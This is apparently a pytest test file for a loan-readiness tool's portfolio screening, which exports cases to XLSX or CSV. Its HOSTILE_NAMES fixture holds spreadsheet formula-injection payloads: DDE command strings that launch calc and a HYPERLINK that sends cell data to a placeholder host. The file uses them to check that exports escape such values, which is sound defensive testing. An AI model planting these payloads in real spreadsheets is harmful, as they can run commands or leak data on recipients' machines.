"""Portfolio screening (issue 19): a folder of cases into one XLSX or CSV, every figure the domain's.

The expectations are computed here from ``analyse()`` and the loader, never copied from a run,
so a screen that drifted from the explainer's verdict, lost a row or let a name become a formula
would fail.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from datetime import date
from pathlib import Path

import pytest
from conftest import SAMPLE_IDS, SAMPLES

from lendready.domain.advice import analyse
from lendready.domain.files.case_file import CaseFileError, load_case
from lendready.domain.files.outside_text import for_display
from lendready.domain.screening import (
    ScreeningCancelled,
    expand,
    screen,
    screen_one,
    summarise,
)
from lendready.report.portfolio_xlsx import csv_safe, write_portfolio

AS_OF = date(2026, 12, 1)
HOSTILE_NAMES = {
    "hostile_eq": '=HYPERLINK("http://example.invalid/?d="&A1,"Click me")',
    "hostile_plus": "+cmd|' /C calc'!A0",
    "hostile_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hostile_minus": "-2+3+cmd|' /C calc'!A0",
}
DAMAGED = b'{"format": "lendready-case", "format_version": 1, "answers": {"org.name": "Cut sh'


@pytest.fixture
def folder(tmp_path) -> Path:
    """Every sample, a damaged file, and cases whose organisation names are formulas."""
    where = tmp_path / "cases"
    where.mkdir()
    for sid in SAMPLE_IDS:
        shutil.copy(SAMPLES / f"{sid}.lendready", where / f"{sid}.lendready")
    (where / "damaged.lendready").write_bytes(DAMAGED)
    doc = json.loads((SAMPLES / "riverside.lendready").read_text(encoding="utf-8"))
    for stem, name in HOSTILE_NAMES.items():
        doc["answers"]["org.name"] = name
        (where / f"{stem}.lendready").write_text(json.dumps(doc), encoding="utf-8")
    (where / "notes.txt").write_text("not a case; not screened", encoding="utf-8")
    return where


def _files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if p.suffix == ".lendready")


def _expected_band_counts(folder: Path, knowledge) -> dict[str, int]:
    counts: dict[str, int] = {}
    for path in _files(folder):
        try:
            case = load_case(path, knowledge.questionnaire)
        except CaseFileError:
            counts["Could not be read"] = counts.get("Could not be read", 0) + 1
            continue
        label = knowledge.bands[analyse(case, knowledge, AS_OF, audience="lender").band].label
        counts[label] = counts.get(label, 0) + 1
    return counts


def _loader_message(path: Path, knowledge) -> str:
    with pytest.raises(CaseFileError) as refused:
        load_case(path, knowledge.questionnaire)
    return for_display(str(refused.value))


# ---------------------------------------------------------------------------
# The rows


def test_a_folder_expands_to_its_case_files_sorted(folder):
    assert [Path(p).name for p in expand([folder])] == [p.name for p in _files(folder)]
    assert "notes.txt" not in {Path(p).name for p in expand([folder])}


def test_each_row_is_the_analysis_of_its_case(folder, knowledge):
    rows = screen([folder], knowledge, AS_OF)
    assert len(rows) == len(_files(folder))
    by_name = {Path(r.source).name: r for r in rows}
    for sid in ("riverside", "vale", "ashcombe", "northtown"):
        case = load_case(SAMPLES / f"{sid}.lendready", knowledge.questionnaire)
        analysis = analyse(case, knowledge, AS_OF, audience="lender")
        row = by_name[f"{sid}.lendready"]
        assert row.assessed
        assert row.band == analysis.band
        assert row.ratings == tuple(a.rating for a in analysis.assessment.areas)
        assert row.organisation == analysis.assessment.organisation
        assert [(f.id, f.value) for f in row.figures] == [(f.id, f.value) for f in analysis.key_figures]
        weighty = [f for f in analysis.assessment.findings if f.severity != "info"]
        assert [f.title for f in row.top_findings] == [f.title for f in weighty[:3]]
        assert row.findings_count == len(weighty)
        assert row.sizing is not None and analysis.loan_sizing is not None
        assert row.sizing.amount_is_not_the_problem == analysis.loan_sizing.amount_is_not_the_problem
        if not analysis.loan_sizing.amount_is_not_the_problem:
            assert row.sizing.max_amount == analysis.loan_sizing.max_amount


def test_a_case_not_ready_at_any_amount_is_offered_no_figure_to_borrow(knowledge):
    case = load_case(SAMPLES / "ashcombe.lendready", knowledge.questionnaire)
    analysis = analyse(case, knowledge, AS_OF, audience="lender")
    assert analysis.loan_sizing is not None and analysis.loan_sizing.amount_is_not_the_problem
    row = screen_one(("ashcombe", case), knowledge, AS_OF)
    assert row.sizing is not None
    assert row.sizing.max_amount is None and row.sizing.comfortable_amount is None
    assert "not what holds this case back" in row.sizing.summary


def test_a_damaged_file_is_a_row_in_the_loaders_words(folder, knowledge):
    rows = screen([folder], knowledge, AS_OF)
    damaged = next(r for r in rows if r.source.endswith("damaged.lendready"))
    assert not damaged.assessed
    assert damaged.status == _loader_message(folder / "damaged.lendready", knowledge)
    assert "not valid JSON" in damaged.status
    assert damaged.band is None


def test_unreadable_oversize_and_folder_like_files_are_rows_too(tmp_path, knowledge):
    (tmp_path / "big.lendready").write_bytes(b" " * (5 * 1024 * 1024 + 1))
    (tmp_path / "dir.lendready").mkdir()
    (tmp_path / "junk.lendready").write_bytes(b"\xff\xfe\x00 binary")
    rows = screen([tmp_path], knowledge, AS_OF)
    assert [Path(r.source).name for r in rows] == ["big.lendready", "dir.lendready", "junk.lendready"]
    for row in rows:
        assert not row.assessed
        assert row.status == _loader_message(Path(row.source), knowledge)


def test_register_items_are_label_and_case_pairs(knowledge, samples):
    rows = screen([("Register: Vale (v3)", samples["vale"]), SAMPLES / "riverside.lendready"], knowledge, AS_OF)
    assert [r.source for r in rows] == ["Register: Vale (v3)", str(SAMPLES / "riverside.lendready")]
    assert rows[0].band == analyse(samples["vale"], knowledge, AS_OF, audience="lender").band


def test_summary_counts_by_band_and_legal_form(folder, knowledge):
    portfolio = summarise(screen([folder], knowledge, AS_OF), knowledge, AS_OF)
    counted = {c.label: c.cases for c in portfolio.by_band if c.cases}
    assert counted == _expected_band_counts(folder, knowledge)
    assert portfolio.total == len(_files(folder)) and portfolio.unreadable == 1
    forms: dict[str, int] = {}
    question = knowledge.questionnaire.questions["org.legal_form"]
    for path in _files(folder):
        try:
            case = load_case(path, knowledge.questionnaire)
        except CaseFileError:
            continue
        label = question.choice_label(case.answers["org.legal_form"])
        forms[label] = forms.get(label, 0) + 1
    assert {c.label: c.cases for c in portfolio.by_legal_form if c.cases} == forms


# ---------------------------------------------------------------------------
# Progress, cancellation, workers


def test_progress_counts_rise_to_the_total(folder, knowledge):
    calls: list[tuple[int, int]] = []
    screen([folder], knowledge, AS_OF, progress=lambda done, total: calls.append((done, total)))
    total = len(_files(folder))
    assert calls[0] == (0, total) and calls[-1] == (total, total)
    assert all(b[0] > a[0] for a, b in zip(calls, calls[1:]))
    assert {t for _, t in calls} == {total}


def test_cancelling_stops_early(folder, knowledge):
    seen: list[int] = []
    with pytest.raises(ScreeningCancelled) as stopped:
        screen([folder], knowledge, AS_OF, progress=lambda done, total: seen.append(done),
               cancelled=lambda: len(seen) > 3)
    assert stopped.value.done == 3 < stopped.value.total
    assert max(seen) == 3


def test_worker_processes_give_the_same_rows_in_the_same_order(folder, knowledge):
    alone = screen([folder], knowledge, AS_OF, workers=1)
    calls: list[int] = []
    pooled = screen([folder], knowledge, AS_OF, progress=lambda done, total: calls.append(done), workers=2)
    assert pooled == alone
    assert calls == sorted(calls) and calls[-1] == len(alone)


def test_cancelling_a_pooled_run_stops_early(tmp_path, knowledge):
    for i in range(40):
        shutil.copy(SAMPLES / f"{SAMPLE_IDS[i % len(SAMPLE_IDS)]}.lendready", tmp_path / f"c{i:02d}.lendready")
    seen: list[int] = []
    with pytest.raises(ScreeningCancelled) as stopped:
        screen([tmp_path], knowledge, AS_OF, progress=lambda done, total: seen.append(done),
               cancelled=lambda: max(seen) > 0, workers=2)
    assert 0 < stopped.value.done < 40


# ---------------------------------------------------------------------------
# The XLSX


def _portfolio(folder, knowledge):
    return summarise(screen([folder], knowledge, AS_OF), knowledge, AS_OF)


def test_xlsx_read_back(folder, knowledge, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "portfolio.xlsx"
    write_portfolio(_portfolio(folder, knowledge), out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Cases", "Summary"]
    sheet = book["Cases"]
    header = [c.value for c in sheet[1]]
    assert sheet.max_row == 1 + len(_files(folder))
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}{sheet.max_row}"
    rows = {Path(r[0]).name: dict(zip(header, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}

    case = load_case(SAMPLES / "riverside.lendready", knowledge.questionnaire)
    analysis = analyse(case, knowledge, AS_OF, audience="lender")
    riverside = rows["riverside.lendready"]
    assert riverside["Band"] == knowledge.bands[analysis.band].label
    for area, result in zip(knowledge.areas, analysis.assessment.areas):
        assert riverside[f"{area.title} rating"] == knowledge.vocabulary.rating(result.rating)
    assert riverside["Loan asked (£)"] == case.answers["loan.amount"]
    assert riverside["Status"] == "assessed"
    assert riverside["Last saved"].date() == date.fromisoformat(case.modified[:10])

    damaged = rows["damaged.lendready"]
    assert damaged["Status"] == _loader_message(folder / "damaged.lendready", knowledge)
    assert damaged["Band"] is None

    ashcombe = rows["ashcombe.lendready"]
    assert isinstance(ashcombe["Largest amount, no new red (£)"], str)  # never a sum to borrow

    # Numbers are numbers, with a £, ratio or date format, and ratings carry their colour.
    cells = {c.column_letter: c for c in sheet[1 + sorted(rows).index("riverside.lendready") + 1]}
    by_header = {h: cells[openpyxl.utils.get_column_letter(i + 1)] for i, h in enumerate(header)}
    loan = by_header["Loan asked (£)"]
    assert loan.data_type == "n" and "£" in loan.number_format and "#,##0" in loan.number_format
    assert by_header["Debt service cover (DSCR)"].number_format == "0.00"
    assert by_header["Last saved"].number_format == "dd/mm/yyyy"
    rating_cell = by_header["Income and contracts rating"]
    assert rating_cell.fill.fgColor.rgb.endswith("C62828") == (analysis.assessment.area("income").rating == "red")

    summary = book["Summary"]
    values = list(summary.iter_rows(values_only=True))
    start = values.index(("Band", "Cases"))
    shown = {}
    for label, count in values[start + 1:]:
        if label is None:
            break
        shown[label] = count
    expected = _expected_band_counts(folder, knowledge)
    assert {k: v for k, v in shown.items() if v} == expected
    assert set(shown) == {b.label for b in knowledge.bands.values()} | {"Could not be read"}
    assert len(summary._charts) == 1


def test_xlsx_formula_injection_names_are_strings(folder, knowledge, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "portfolio.xlsx"
    write_portfolio(_portfolio(folder, knowledge), out)
    sheet = openpyxl.load_workbook(out)["Cases"]
    header = [c.value for c in sheet[1]]
    column = header.index("Organisation")
    found = {}
    for row in sheet.iter_rows(min_row=2):
        name = Path(row[0].value).stem
        if name in HOSTILE_NAMES:
            found[name] = row[column]
    assert set(found) == set(HOSTILE_NAMES)
    for stem, cell in found.items():
        assert cell.data_type == "s", f"{stem} was written as {cell.data_type}"
        assert cell.value == HOSTILE_NAMES[stem]
    # And no cell anywhere in the workbook is a formula.
    import zipfile

    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


# ---------------------------------------------------------------------------
# The CSV


def test_csv_read_back(folder, knowledge, tmp_path):
    out = tmp_path / "portfolio.csv"
    write_portfolio(_portfolio(folder, knowledge), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = table[0], table[1:]
    assert len(body) == len(_files(folder))
    rows = {Path(r[0]).name: dict(zip(header, r)) for r in body}
    case = load_case(SAMPLES / "vale.lendready", knowledge.questionnaire)
    analysis = analyse(case, knowledge, AS_OF, audience="lender")
    assert rows["vale.lendready"]["Band"] == knowledge.bands[analysis.band].label
    assert rows["vale.lendready"]["Last saved"] == f"{date.fromisoformat(case.modified[:10]):%d/%m/%Y}"
    assert int(rows["vale.lendready"]["Loan asked (£)"]) == case.answers["loan.amount"]
    assert rows["damaged.lendready"]["Status"] == _loader_message(folder / "damaged.lendready", knowledge)
    for stem, name in HOSTILE_NAMES.items():
        assert rows[f"{stem}.lendready"]["Organisation"] == "'" + name
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only a negative number may start with a minus


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tA", "'\tA"),
    ("\rA", "'\rA"), ("Vale Leisure", "Vale Leisure"), ("a=b", "a=b"),
])
def test_csv_safe(text, safe):
    assert csv_safe(text) == safe


# ---------------------------------------------------------------------------
# The command


def _cli(*args):
    from lendready.screening_cli import main

    return main(list(args))


def test_cli_writes_the_portfolio_and_one_line(folder, tmp_path, capsys):
    out = tmp_path / "portfolio.xlsx"
    assert _cli(str(folder), "-o", str(out), "--as-of", "01/12/2026") == 0
    captured = capsys.readouterr()
    assert captured.out == ""
    assert len(captured.err.splitlines()) == 1 and "1 could not be read" in captured.err
    assert out.is_file()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


def test_cli_quiet_prints_nothing(folder, tmp_path, capsys):
    assert _cli(str(folder), "-o", str(tmp_path / "p.csv"), "--as-of", "2026-12-01", "--quiet") == 0
    assert capsys.readouterr() == ("", "")


def test_cli_as_of_day_first_and_iso_agree(folder, tmp_path, capsys):
    assert _cli(str(folder), "-o", str(tmp_path / "a.csv"), "--as-of", "01/12/2026", "-q") == 0
    assert _cli(str(folder), "-o", str(tmp_path / "b.csv"), "--as-of", "2026-12-01", "-q") == 0
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_cli_refuses_to_write_over_an_input(folder, tmp_path, capsys):
    link = tmp_path / "portfolio.xlsx"
    os.symlink(folder / "vale.lendready", link)
    before = (folder / "vale.lendready").read_bytes()
    assert _cli(str(folder), "-o", str(link), "--as-of", "2026-12-01") == 1
    assert "would replace it" in capsys.readouterr().err
    assert (folder / "vale.lendready").read_bytes() == before


def test_cli_refuses_a_case_file_named_as_the_output(tmp_path, capsys):
    case = tmp_path / "case.csv"
    shutil.copy(SAMPLES / "vale.lendready", case)
    assert _cli(str(case), "-o", str(case)) == 1
    assert case.read_bytes() == (SAMPLES / "vale.lendready").read_bytes()


@pytest.mark.parametrize("args", [
    ["FOLDER"],                                         # no output
    ["FOLDER", "-o", "x.xlsx", "--as-of", "31/02/2026"],  # no such date
    ["FOLDER", "-o", "x.xlsx", "--as-of", "12/31/2026"],  # American order
])
def test_cli_usage_errors_exit_1(args, folder, tmp_path, capsys):
    given = [str(folder) if a == "FOLDER" else str(tmp_path / a) if a.endswith(".xlsx") else a for a in args]
    with pytest.raises(SystemExit) as exited:
        _cli(*given)
    assert exited.value.code == 1
    assert not (tmp_path / "x.xlsx").exists()


def test_cli_with_nothing_to_screen_exits_1(tmp_path, capsys):
    assert _cli("-o", str(tmp_path / "x.xlsx")) == 1  # no folder, no file, no --register
    assert "or --register" in capsys.readouterr().err and not (tmp_path / "x.xlsx").exists()


def test_cli_wrong_output_kind_exits_1(folder, tmp_path, capsys):
    assert _cli(str(folder), "-o", str(tmp_path / "portfolio.pdf")) == 1
    assert ".xlsx or .csv" in capsys.readouterr().err


def test_cli_missing_input_or_no_cases_exit_2(tmp_path, capsys):
    assert _cli(str(tmp_path / "no-such-folder"), "-o", str(tmp_path / "p.xlsx")) == 2
    assert "no file or folder" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    assert _cli(str(empty), "-o", str(tmp_path / "p.xlsx")) == 2
    assert "no .lendready case files" in capsys.readouterr().err
    assert not (tmp_path / "p.xlsx").exists()


def test_cli_replaces_an_old_portfolio_atomically(folder, tmp_path):
    out = tmp_path / "portfolio.csv"
    out.write_text("old", encoding="utf-8")
    assert _cli(str(folder), "-o", str(out), "-q") == 0
    assert out.read_text(encoding="utf-8-sig").startswith("File,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cases", "portfolio.csv"]


def test_xlsx_constant_memory_mode_writes_the_same_cells(folder, knowledge, tmp_path, monkeypatch):
    """Large portfolios stream rows to disk; the workbook must read back the same either way."""
    openpyxl = pytest.importorskip("openpyxl")
    import lendready.report.portfolio_xlsx as px

    portfolio = _portfolio(folder, knowledge)
    write_portfolio(portfolio, tmp_path / "shared.xlsx")
    monkeypatch.setattr(px, "CONSTANT_MEMORY_ROWS", 0)
    write_portfolio(portfolio, tmp_path / "streamed.xlsx")

    def read(name):
        book = openpyxl.load_workbook(tmp_path / name)
        return {s: [[(c.value, c.data_type, c.number_format) for c in row] for row in book[s].iter_rows()]
                for s in book.sheetnames}

    assert read("streamed.xlsx") == read("shared.xlsx")


def test_cli_as_a_process_with_workers(folder, tmp_path):
    """Worker processes are spawned afresh; the command run as a module must survive that."""
    import subprocess
    import sys

    out = tmp_path / "portfolio.csv"
    done = subprocess.run(
        [sys.executable, "-m", "lendready.screening_cli", str(folder), "-o", str(out), "--as-of", "2026-12-01",
         "--jobs", "2"],
        capture_output=True, text=True, timeout=300, check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == "" and done.stderr.startswith("lendready: screened ")
    with_workers = out.read_bytes()
    assert _cli(str(folder), "-o", str(tmp_path / "alone.csv"), "--as-of", "2026-12-01", "-j", "1", "-q") == 0
    assert with_workers == (tmp_path / "alone.csv").read_bytes()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads any folder")
def test_cli_unlistable_folder_exits_2(tmp_path, capsys):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0)
    try:
        assert _cli(str(locked), "-o", str(tmp_path / "p.xlsx")) == 2
        assert "cannot list" in capsys.readouterr().err
    finally:
        locked.chmod(0o700)
